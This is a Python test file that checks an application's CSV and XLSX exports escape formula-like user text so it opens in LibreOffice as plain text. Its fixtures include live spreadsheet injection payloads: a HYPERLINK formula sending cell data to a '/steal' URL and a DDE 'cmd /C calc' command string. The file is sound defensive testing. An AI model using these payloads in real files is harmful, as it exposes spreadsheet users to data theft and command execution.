"""Formulas in user text never run in a spreadsheet: the trail CSV, a bundle's events.csv and the
bulk-edit files, opened in LibreOffice, hold text where a reason, a title, an owner or a username
typed at the sign-in form (with no account behind it) looked like ``=HYPERLINK(...)``. The JSON
Lines keep the exact text, and a bundle still verifies."""

from __future__ import annotations

import json
import zipfile

import pytest
from sqlmodel import select

from models.rules.auth import AuthError, authenticate
from models.store.db import read_session, write_session
from models.store.tables import User
from models.trail.bundle_verify import verify_bundle
from models.trail.export_formats import Scope, spreadsheet_safe
from models.trail.exports import export
from models.workflow.bulk_export import export_edits_file
from models.workflow.edit_files import parse_edit_file
from tests.helpers import change, make_rec
from tests.spreadsheets import cells, convert

LINK = '=HYPERLINK("http://127.0.0.1:9/steal?x="&A1,"Click to verify")'
FORMULAS = {
    "reason": LINK,
    "owner": "+SUM(1,2)",
    "title": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


@pytest.fixture
def formula_store(engine, users):
    make_rec(engine, "rec-f", title=FORMULAS["title"], owner=FORMULAS["owner"])
    change(engine, "rec-f", status="under_review", reason=FORMULAS["reason"])
    change(engine, "rec-f", progress=10, reason=FORMULAS["minus"])
    for typed in (LINK, FORMULAS["tab"], FORMULAS["cr"]):  # no such account: the typed name is still recorded
        with pytest.raises(AuthError):
            with write_session(engine) as s:
                authenticate(s, username=typed, password="whatever it is")
    with read_session(engine) as s:
        aud = s.exec(select(User).where(User.username == "aud")).one()
    return engine, aud


def test_formula_cells_are_escaped_with_an_apostrophe_and_nothing_else_changes():
    assert [spreadsheet_safe(v) for v in FORMULAS.values()] == ["'" + v for v in FORMULAS.values()]
    assert [spreadsheet_safe(v) for v in ("plain", "a=b", "", None, 5, "'=already")] == [
        "plain",
        "a=b",
        "",
        None,
        5,
        "'=already",
    ]


def test_the_trail_csv_and_a_bundles_events_csv_open_in_libreoffice_as_text(formula_store, tmp_path):
    engine, aud = formula_store
    trail = export(engine, fmt="csv", scope=Scope(), actor=aud, out_path=tmp_path / "trail.csv").path
    bundle = export(engine, fmt="bundle", scope=Scope(), actor=aud, out_path=tmp_path / "trail.zip").path
    with zipfile.ZipFile(bundle) as zf:
        (tmp_path / "events.csv").write_bytes(zf.read("events.csv"))
        jsonl = [json.loads(line) for line in zf.read("events.jsonl").decode("utf-8").splitlines()]
    assert verify_bundle(bundle).ok

    opened = convert([trail, tmp_path / "events.csv"], "xlsx", tmp_path / "lo")
    for xlsx in opened:
        got = cells(xlsx)
        assert [c.value for c in got if c.data_type == "f"] == [], f"{xlsx.name}: a formula survived"
        texts = {c.value for c in got}
        for name, value in FORMULAS.items():
            if name in ("owner", "title"):
                continue  # those sit inside the JSON of before/after, which starts with "{"
            assert "'" + value.replace("\r", "\n") in texts, (
                xlsx.name,
                name,
            )  # LibreOffice keeps a CR as a line break
    # the canonical form keeps the exact text, and the hashes cover it
    assert {FORMULAS["reason"], FORMULAS["minus"]} <= {e["reason"] for e in jsonl}
    assert {LINK, FORMULAS["tab"], FORMULAS["cr"]} <= {e["actor"] for e in jsonl} & {
        e["record_key"] for e in jsonl
    }


def test_bulk_edit_files_open_in_libreoffice_as_text_and_read_back_unchanged(formula_store, tmp_path):
    engine, _ = formula_store
    with read_session(engine) as s:
        export_edits_file(s, tmp_path / "edits.csv")
        export_edits_file(s, tmp_path / "edits.xlsx")
    (from_csv,) = convert([tmp_path / "edits.csv"], "xlsx", tmp_path / "lo-csv")
    (resaved,) = convert([tmp_path / "edits.xlsx"], "xlsx", tmp_path / "lo-xlsx")
    for xlsx in (from_csv, resaved):
        got = cells(xlsx)
        assert [c.value for c in got if c.data_type == "f"] == [], f"{xlsx.name}: a formula survived"
    owners = {c.value for c in cells(resaved)}
    assert FORMULAS["owner"] in owners and FORMULAS["title"] in owners  # text, without the apostrophe
    # what LibreOffice saved reads back as the values the store has: nothing to apply
    parsed = parse_edit_file(resaved.read_bytes(), "edits.xlsx")
    assert [(r.key, r.values["owner"], r.context["title"]) for r in parsed.rows] == [
        ("rec-f", FORMULAS["owner"], FORMULAS["title"])
    ] and not parsed.problems


def test_leading_zeros_survive_a_libreoffice_round_trip_of_the_xlsx_file(engine, users, tmp_path):
    make_rec(engine, "rec-z", owner="00123")
    with read_session(engine) as s:
        export_edits_file(s, tmp_path / "zeros.xlsx")
    (resaved,) = convert([tmp_path / "zeros.xlsx"], "xlsx", tmp_path / "lo")
    (as_csv,) = convert(
        [tmp_path / "zeros.xlsx"], "csv:Text - txt - csv (StarCalc):44,34,76,1", tmp_path / "lo-csv"
    )
    for f in (resaved, as_csv):
        parsed = parse_edit_file(f.read_bytes(), f.name)
        assert [r.values["owner"] for r in parsed.rows] == ["00123"], f.name
